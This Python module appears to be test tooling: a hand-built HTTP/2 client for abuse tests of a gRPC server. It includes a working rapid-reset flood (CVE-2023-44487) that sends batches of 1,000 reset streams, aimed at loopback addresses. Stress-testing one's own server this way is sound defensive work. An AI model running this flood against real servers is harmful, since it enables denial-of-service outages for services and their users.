"""A raw HTTP/2 client for the abuse tests: it sends exactly the frames a
test asks for (any :path bytes, window 0, HEADERS + DATA + RST_STREAM at full
speed), which no gRPC client library does. Header blocks are HPACK literals
without indexing or Huffman coding; the server's header blocks are not
decoded, only which stream ended how."""

import socket
import struct
import subprocess
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_ENABLE_PUSH, SETTINGS_INITIAL_WINDOW_SIZE = 0x2, 0x4
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def _hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def header_block(headers):
    """Literal header fields without indexing, new names, no Huffman."""
    out = bytearray()
    for name, value in headers:
        out += b"\x00" + _hpack_int(len(name), 7) + name + _hpack_int(len(value), 7) + value
    return bytes(out)


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


def call_frames(stream, path, body, reset=False, authority=b"127.0.0.1"):
    """HEADERS + DATA (end of stream) of one gRPC call, and RST_STREAM
    (CANCEL) after them when `reset`."""
    block = header_block([(b":method", b"POST"), (b":scheme", b"http"),
                          (b":path", path), (b":authority", authority),
                          (b"content-type", b"application/grpc"), (b"te", b"trailers")])
    out = frame(HEADERS, END_HEADERS, stream, block) + \
        frame(DATA, END_STREAM, stream, grpc_message(body))
    if reset:
        out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    return out


class Connection:
    """One HTTP/2 connection to 127.0.0.1:port from `source` (any loopback
    address, so that a proxy can tell an attacker from a probe). `window` is
    the initial stream window this client announces (0: the server may send
    no DATA)."""

    def __init__(self, port, window=65535, source="127.0.0.1"):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10,
                                             source_address=(source, 0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.trailers_only = set()   # Streams answered by headers alone.
        self.with_headers = set()    # Streams that got response headers.
        self.ended = set()           # Streams whose trailers arrived.
        self.reset_by_server = {}    # Stream -> RST_STREAM error code.
        self.goaway = None
        self.closed = threading.Event()
        settings = struct.pack(">HI", SETTINGS_ENABLE_PUSH, 0) + \
            struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        """False once the server has closed the connection."""
        try:
            with self.lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self.closed.set()
            return False

    def _read_exact(self, size):
        data = bytearray()
        while len(data) < size:
            chunk = self.sock.recv(size - len(data))
            if not chunk:
                raise EOFError()
            data += chunk
        return bytes(data)

    def _read(self):
        try:
            while True:
                head = self._read_exact(9)
                length = struct.unpack(">I", b"\0" + head[:3])[0]
                kind, flags = head[3], head[4]
                stream = struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
                payload = self._read_exact(length)
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == HEADERS:
                    if flags & END_STREAM:
                        self.ended.add(stream)
                        if stream not in self.with_headers:
                            self.trailers_only.add(stream)
                    self.with_headers.add(stream)
                elif kind == RST_STREAM:
                    self.reset_by_server[stream] = struct.unpack(">I", payload)[0]
                elif kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
        except (EOFError, OSError):
            pass
        finally:
            self.closed.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(port, seconds, path, body, source="127.0.0.1"):
    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS + DATA + RST_STREAM
    (CANCEL) of calls to `path`, 1,000 streams a write, for `seconds`;
    reconnects whenever the server closes the connection. Returns (streams
    sent, connections the server closed)."""
    deadline = time.monotonic() + seconds
    sent = 0
    closed = 0
    connection = Connection(port, source=source)
    stream = 1
    while time.monotonic() < deadline:
        batch = b"".join(call_frames(stream + 2 * i, path, body, reset=True) for i in range(1000))
        if connection.closed.is_set() or not connection.send(batch):
            closed += 1
            connection.close()
            connection = Connection(port, source=source)
            stream = 1
            continue
        sent += 1000
        stream += 2000
        if stream > 2**31 - 4000:
            connection.close()
            connection = Connection(port, source=source)
            stream = 1
    connection.close()
    return sent, closed


def rapid_reset_elsewhere(port, seconds, path, body, source="127.0.0.1"):
    """rapid_reset in a process of its own, so that the flood loop does not
    hold the caller's interpreter lock: a probe client in the calling process
    then measures the server, not its own starved thread."""
    result = subprocess.run(
        [sys.executable, __file__, "rapid-reset", str(port), str(seconds), path.hex(), body.hex(),
         source], capture_output=True, text=True, timeout=seconds + 60, check=True)
    sent, closed = result.stdout.split()
    return int(sent), int(closed)


if __name__ == "__main__" and sys.argv[1:2] == ["rapid-reset"]:
    _port, _seconds, _path, _body, _source = sys.argv[2:7]
    print(*rapid_reset(int(_port), float(_seconds), bytes.fromhex(_path), bytes.fromhex(_body),
                       _source))
